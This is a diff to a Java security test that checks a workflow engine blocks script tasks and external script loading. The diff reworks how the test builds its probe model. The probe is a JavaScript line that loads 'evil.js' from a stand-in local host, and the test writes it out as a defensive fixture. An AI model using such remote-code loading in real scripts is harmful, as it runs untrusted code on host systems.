@@ -25,6 +25,7 @@ import org.communityhub.intake.IntakeService;
 import org.communityhub.intake.Need;
 import org.communityhub.support.HubIntegrationTest;
 import org.communityhub.support.Jobs;
+import org.communityhub.support.Models;
 import org.junit.jupiter.api.Test;
 import org.springframework.beans.factory.annotation.Autowired;
 import org.springframework.boot.test.web.server.LocalServerPort;
@@ -113,8 +114,9 @@ class EngineHardeningTest {
   @Test
   void scriptTasksCannotRunAndScriptsCannotLoadExternalResources() {
     assertThat(((ProcessEngineConfigurationImpl) configuration).isEnableScriptEngineLoadExternalResources()).isFalse();
-    BpmnModelInstance model = Bpmn.createExecutableProcess("script-probe").camundaHistoryTimeToLive(1).startEvent()
-        .scriptTask().scriptFormat("javascript").scriptText("load('http://127.0.0.1:9/evil.js')").endEvent().done();
+    BpmnModelInstance model = Models.withNamedFlowIds(Bpmn.createExecutableProcess("script-probe")
+        .camundaHistoryTimeToLive(1).startEvent("StartEvent_Probe").scriptTask("Task_Script").scriptFormat("javascript")
+        .scriptText("load('http://127.0.0.1:9/evil.js')").endEvent("EndEvent_Probe").done());
     String deployment = repository.createDeployment().addModelInstance("script-probe.bpmn", model).deploy().getId();
     try {
       assertThatThrownBy(() -> runtime.startProcessInstanceByKey("script-probe"))
